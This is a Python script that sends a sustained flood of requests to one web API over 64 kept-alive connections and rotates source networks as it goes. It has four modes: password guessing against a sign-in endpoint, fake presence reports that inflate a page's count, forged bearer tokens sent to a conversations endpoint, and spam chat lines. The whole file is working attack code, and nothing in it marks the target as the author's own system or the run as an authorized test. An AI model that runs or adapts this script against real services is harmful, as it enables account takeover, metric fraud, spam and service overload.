"""Attacks on the API over kept connections: `api.py KIND HOST PORT SECONDS SLUG`.

signin  passwords of a list, for accounts that are guessed
here    reports of pages that are nobody's, to inflate the count
tokens  forged tokens, each checked
floor   lines for the chat
"""
import itertools
import json
import random
import sys

from sources import connect, many_networks, tell, until

CONNECTIONS = 64


def request(kind, slug, n, rng):
    fields, method = "", "POST"
    if kind == "signin":
        path, body = "/api/v1/sign-in/password", json.dumps({"handle": f"user{n % 50}", "password": f"correct horse {n}"})
    elif kind == "here":
        path, body = f"/c/{slug}/here", f"id={rng.randrange(2 ** 54)}"
    elif kind == "tokens":
        path, body, method = f"/api/v1/conversations/{slug}", "", "GET"
        fields = f"Authorization: Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjAwIn0.{'e30' * (n % 300)}.{'A' * 86}\r\n"
    else:
        path, body = f"/api/v1/conversations/{slug}/chat", json.dumps({"text": f"buy {n}"})
    length = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nHost: attacked\r\n{fields}{length}\r\n{body}".encode()


def main(kind, host, port, seconds, slug):
    to, sources, rng = (host, int(port)), many_networks(), random.Random(1)
    lines, statuses = [None] * CONNECTIONS, {}
    count = itertools.count()
    for _ in until(float(seconds)):
        asked = []
        for at in range(CONNECTIONS):
            if lines[at] is None:
                lines[at] = connect(next(sources), to, 1.0)
            if lines[at] is None:
                continue
            try:
                lines[at].sendall(request(kind, slug, next(count), rng))
                asked.append(at)
            except OSError:
                lines[at].close()
                lines[at] = None
        for at in asked:
            try:
                answer = lines[at].recv(65536)
                status = answer[9:12].decode("latin-1") or "closed"
            except OSError:
                status = "none"
            statuses[status] = statuses.get(status, 0) + 1
            if not status.isdigit() or b"onnection: close" in answer:
                lines[at].close()
                lines[at] = None
    tell(**statuses)


main(*sys.argv[1:])
